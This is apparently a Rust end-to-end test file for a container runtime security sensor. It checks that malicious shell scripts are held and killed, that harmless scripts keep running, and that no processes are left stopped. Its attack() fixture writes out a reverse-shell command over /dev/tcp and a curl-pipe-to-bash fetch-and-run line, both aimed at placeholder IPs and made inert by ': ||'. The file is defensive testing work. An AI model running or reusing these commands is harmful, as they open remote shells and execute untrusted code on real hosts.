@@ -1,0 +1,278 @@
+//! `--respond hold`: nothing of a malicious script runs, harmless ones run as ever, and nobody is left stopped.
+
+use std::{
+    fs,
+    os::unix::process::{CommandExt, ExitStatusExt},
+    path::Path,
+    process::{Child, Command},
+    time::{Duration, Instant},
+};
+
+use e2e::{
+    cgroup::{Cgroup, enter},
+    daemon::scaled,
+    node::Node,
+    shell::quiet,
+};
+use serde_json::Value;
+
+const POD: &str = "kubepods/burstable/pod6b1d3a5e-0c1f-4e6a-9f1b-2f3c4d5e6f71";
+/// How long a shell may take whose sensor hangs: the deadline (50 ms), what the second process waits on top, and what a test's
+/// machine needs to run anybody.
+const LATE: Duration = Duration::from_millis(600);
+
+fn container(number: u32) -> Cgroup {
+    Cgroup::make(&format!("{POD}/{number:064x}"))
+}
+
+/// Malicious by any model, and inert: `:` runs instead. Its first command makes the file `marker`.
+fn attack(name: &str, marker: &Path) -> String {
+    format!(
+        "echo > {}; : || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/{name} | bash\n",
+        marker.display()
+    )
+}
+
+/// A command in the container. Nobody that the test's shell is a job of is to notice a stop.
+fn inside(cgroup: &Cgroup, program: &str, args: &[&str]) -> Command {
+    let mut command = quiet(program);
+    command.args(args);
+    enter(&mut command, &cgroup.procs());
+    command
+}
+
+fn property<'a>(findings: &'a [Value], name: &str, key: &str) -> &'a Value {
+    let is_it = |finding: &&Value| {
+        let text = finding["processes"][0]["script"]["contents"].as_str();
+        text.is_some_and(|text| text.contains(&format!("192.0.2.7/{name} ")))
+    };
+    let finding =
+        findings.iter().find(is_it).unwrap_or_else(|| panic!("no finding of {name}: {findings:#?}"));
+    &finding["sourceProperties"][key]
+}
+
+/// The state of a process as /proc has it, `None` when it is gone.
+fn state(pid: u32) -> Option<char> {
+    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
+    stat.rsplit_once(')')?.1.trim_start().chars().next()
+}
+
+/// Stops the sensor, and then starts a shell that is held: the sensor's last sign of life is not too old yet.
+fn start_held(node: &Node, cgroup: &Cgroup, marker: &Path) -> Child {
+    let text = format!("echo > {}", marker.display());
+    for _ in 0..20 {
+        node.sensor.signal(libc::SIGSTOP);
+        while state(node.sensor.pid()) != Some('T') {
+            std::hint::spin_loop();
+        }
+        let mut child = inside(cgroup, "/bin/bash", &["-c", &text]).spawn().expect("a shell");
+        loop {
+            match state(child.id()) {
+                Some('T') if !marker.exists() => return child,
+                // The machine was busy: the shell was not held, or went on before anybody looked.
+                Some('Z') | None => break,
+                _ => std::hint::spin_loop(),
+            }
+        }
+        child.wait().expect("its end");
+        fs::remove_file(marker).expect("it ran");
+        node.sensor.signal(libc::SIGCONT);
+        let holds = || node.reading("kernel_holds_total").expect("a counter");
+        let before = holds();
+        let is_held_again = || inside(cgroup, "/bin/bash", &["-c", ":"]).status().is_ok() && holds() > before;
+        node.wait_until(is_held_again).expect("the sensor is back");
+    }
+    panic!("no shell is held\n{}", node.log());
+}
+
+#[test]
+fn nothing_of_a_malicious_script_runs_however_it_comes() {
+    let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
+    let cgroup = container(0xd1);
+    let marker = |name: &str| node.path(&format!("ran-{name}"));
+    // The first shell of a cgroup that is in no PID namespace of its own is only now known to be of a container.
+    assert!(inside(&cgroup, "/bin/bash", &["-c", ":"]).status().expect("a shell").success());
+    let file = |name: &str| {
+        let text = attack(name, &marker(name));
+        node.file(&format!("{name}.sh"), text.as_bytes()).expect("a file").display().to_string()
+    };
+    let mut killed = Vec::new();
+    let mut run = |name: &str, mut command: Command| {
+        let status = command.status().expect("a shell");
+        assert!(!marker(name).exists(), "{name} ran\n{}", node.log());
+        killed.push((name.to_owned(), status));
+    };
+    for shell in ["bash", "dash"] {
+        let program = format!("/bin/{shell}");
+        let name = format!("{shell}-file");
+        run(&name, inside(&cgroup, &program, &[&file(&name)]));
+        let name = format!("{shell}-command");
+        run(&name, inside(&cgroup, &program, &["-c", &attack(&name, &marker(&name))]));
+        let name = format!("{shell}-piped");
+        let mut piped = inside(&cgroup, &program, &[]);
+        piped.stdin(fs::File::open(file(&name)).expect("a file"));
+        run(&name, piped);
+        let name = format!("{shell}-sourced");
+        run(&name, inside(&cgroup, &program, &["-c", &format!(". {}", file(&name))]));
+        // By the shell's own commands: no fork is needed to read the text.
+        let name = format!("{shell}-evaluated");
+        let text = format!("read -r line < {}; eval \"$line\"", file(&name));
+        run(&name, inside(&cgroup, &program, &["-c", &text]));
+    }
+    let name = "bash-pipe";
+    let mut cat = Command::new("cat");
+    let mut cat = cat.arg(file(name)).stdout(std::process::Stdio::piped()).spawn().expect("cat");
+    let mut piped = inside(&cgroup, "/bin/bash", &[]);
+    piped.stdin(cat.stdout.take().expect("a pipe"));
+    run(name, piped);
+    cat.wait().expect("its end");
+    let findings = node.wait_for(|all| all.len() >= killed.len()).expect("findings");
+    for (name, status) in &killed {
+        assert_eq!(status.signal(), Some(libc::SIGKILL), "{name}: {status}");
+        assert_eq!(property(&findings, name, "Response_Action"), "killed", "{name}");
+        // What sourced or evaluated it had run.
+        let expected =
+            if name.ends_with("sourced") || name.ends_with("evaluated") { "part" } else { "nothing" };
+        assert_eq!(property(&findings, name, "Response_Ran_Before"), expected, "{name}");
+        assert!(
+            property(&findings, name, "Response_Held_Ms").as_f64().is_some_and(|ms| ms < 1_000.0),
+            "{name}"
+        );
+    }
+    let outcome = node.finish().expect("an outcome");
+    assert_eq!(outcome.total("holds_total{outcome=\"timed_out\"}"), 0);
+}
+
+#[test]
+fn harmless_scripts_run_as_ever_and_others_are_not_stopped() {
+    let node = Node::start(&["--respond", "hold", "--threshold", "0.99"]).expect("a node");
+    let cgroup = container(0xd2);
+    let output = |mut command: Command| {
+        let output = command.stdout(std::process::Stdio::piped()).output().expect("a shell");
+        assert!(output.status.success(), "{:?}\n{}", output.status, node.log());
+        String::from_utf8(output.stdout).expect("UTF-8")
+    };
+    let data = node.file("data", "one\ntwo\n".repeat(200).as_bytes()).expect("a file");
+    let read = format!("cat {} | while read -r l; do n=$((n+1)); echo $n; done | tail -1", data.display());
+    assert_eq!(output(inside(&cgroup, "/bin/bash", &["-c", &read])), "400\n");
+    assert_eq!(output(inside(&cgroup, "/bin/dash", &["-c", &read])), "400\n");
+    // With job control a parent would take a stop for the end of its job: it is not stopped.
+    let jobs = "set -m; bash -c 'echo job'; bash -c 'echo other' & wait; jobs";
+    assert_eq!(output(inside(&cgroup, "/bin/bash", &["-c", jobs])), "job\nother\n");
+    assert!(node.reading("kernel_holds_noticed_total").expect("a counter") > 0);
+    let before = node.reading("kernel_holds_total").expect("a counter");
+    assert!(before > 0);
+    // The node's own shells.
+    for _ in 0..20 {
+        assert!(quiet("/bin/bash").args(["-c", ":"]).status().expect("a shell").success());
+    }
+    assert_eq!(node.reading("kernel_holds_total").expect("a counter"), before);
+    node.finish().expect("an outcome");
+}
+
+#[test]
+fn nobody_is_left_stopped() {
+    let node = Node::start(&["--respond", "hold"]).expect("a node");
+    let cgroup = container(0xd3);
+    assert!(inside(&cgroup, "/bin/bash", &["-c", ":"]).status().expect("a shell").success());
+    let marker = |name: &str| node.path(&format!("ran-{name}"));
+
+    // The sensor hangs: its second process continues the shell, and later ones are not stopped.
+    let mut held = start_held(&node, &cgroup, &marker("hung"));
+    let begun = Instant::now();
+    assert!(held.wait().expect("its end").success());
+    assert!(begun.elapsed() < LATE, "{:?}", begun.elapsed());
+    assert!(marker("hung").exists());
+    std::thread::sleep(Duration::from_millis(200));
+    let begun = Instant::now();
+    assert!(inside(&cgroup, "/bin/bash", &["-c", ":"]).status().expect("a shell").success());
+    assert!(begun.elapsed() < LATE, "{:?}", begun.elapsed());
+    node.sensor.signal(libc::SIGCONT);
+    let holds = || node.reading("kernel_holds_total").expect("a counter");
+    let before = holds();
+    let is_held_again = || inside(&cgroup, "/bin/bash", &["-c", ":"]).status().is_ok() && holds() > before;
+    node.wait_until(is_held_again).expect("the sensor is back");
+
+    // It is killed: likewise.
+    let mut held = start_held(&node, &cgroup, &marker("killed"));
+    node.sensor.signal(libc::SIGKILL);
+    assert!(held.wait().expect("its end").success());
+    assert!(marker("killed").exists());
+}
+
+/// Process ids of the second processes of a sensor.
+fn guards(sensor: u32) -> Vec<i32> {
+    let children = fs::read_to_string(format!("/proc/{sensor}/task/{sensor}/children")).unwrap_or_default();
+    let tasks = fs::read_dir(format!("/proc/{sensor}/task")).into_iter().flatten().flatten();
+    let all = tasks.filter_map(|task| fs::read_to_string(task.path().join("children")).ok());
+    let pids = all.chain([children]).collect::<Vec<_>>().join(" ");
+    let mut pids: Vec<i32> = pids.split_whitespace().filter_map(|pid| pid.parse().ok()).collect();
+    pids.dedup();
+    pids
+}
+
+#[test]
+fn the_next_sensor_continues_whom_two_killed_processes_left() {
+    let mut node = Node::start(&["--respond", "hold"]).expect("a node");
+    let cgroup = container(0xd4);
+    assert!(inside(&cgroup, "/bin/bash", &["-c", ":"]).status().expect("a shell").success());
+    let marker = node.path("ran-left");
+    let guard = *guards(node.sensor.pid()).first().expect("a second process");
+    // SAFETY: plain system calls on a child of the sensor that this test started.
+    unsafe { libc::kill(guard, libc::SIGSTOP) };
+    let mut held = start_held(&node, &cgroup, &marker);
+    node.sensor.signal(libc::SIGKILL);
+    // SAFETY: as above.
+    unsafe { libc::kill(guard, libc::SIGKILL) };
+    std::thread::sleep(Duration::from_millis(300));
+    assert_eq!(state(held.id()), Some('T'), "nobody is there to continue it");
+    node.restart_sensor().expect("a sensor");
+    assert!(held.wait().expect("its end").success());
+    assert!(marker.exists());
+    assert!(
+        node.log().contains("1 shells were continued that an earlier sensor had stopped"),
+        "{}",
+        node.log()
+    );
+    node.sensor.stop().expect("its end");
+}
+
+#[test]
+fn shells_that_others_meddle_with_end_as_they_would() {
+    let node = Node::start(&["--respond", "hold"]).expect("a node");
+    let cgroup = container(0xd5);
+    assert!(inside(&cgroup, "/bin/bash", &["-c", ":"]).status().expect("a shell").success());
+    let rounds = scaled(200);
+    let mut children: Vec<Child> = Vec::new();
+    for round in 0..rounds {
+        let mut command = inside(
+            &cgroup,
+            if round % 3 == 0 { "/bin/dash" } else { "/bin/bash" },
+            &["-c", &format!("eval ': {round}'; eval 'exit {}'", round % 7)],
+        );
+        if round % 5 == 0 {
+            command.process_group(0);
+        }
+        let child = command.spawn().expect("a shell");
+        let pid = i32::try_from(child.id()).expect("a process id");
+        let signal = match round % 4 {
+            0 => Some(libc::SIGCONT),
+            1 => Some(libc::SIGKILL),
+            _ => None,
+        };
+        if let Some(signal) = signal {
+            // SAFETY: a plain system call on a child of this test that nobody has waited for.
+            unsafe { libc::kill(pid, signal) };
+        }
+        children.push(child);
+    }
+    for (round, mut child) in children.into_iter().enumerate() {
+        let status = child.wait().expect("its end");
+        let expected = i32::try_from(round % 7).expect("a small number");
+        let is_as_expected = status.code() == Some(expected) || round % 4 == 1 && status.signal().is_some();
+        assert!(is_as_expected, "{round}: {status}");
+    }
+    let outcome = node.finish().expect("an outcome");
+    assert!(outcome.total("kernel_holds_total") > 0);
+    assert_eq!(outcome.total("kernel_holds_failed_total"), 0);
+}
